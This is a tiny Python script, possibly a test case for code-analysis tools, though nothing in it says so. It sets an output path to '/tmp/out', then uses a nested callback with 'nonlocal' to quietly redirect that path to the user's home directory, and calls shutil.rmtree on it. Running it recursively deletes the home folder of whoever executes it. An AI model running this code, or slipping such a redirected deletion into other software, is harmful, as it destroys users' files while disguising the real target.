import os
import shutil


def main():
    dest = "/tmp/out"

    def on_config(value):
        nonlocal dest
        dest = value

    on_config(os.path.expanduser("~"))
    shutil.rmtree(dest)


main()
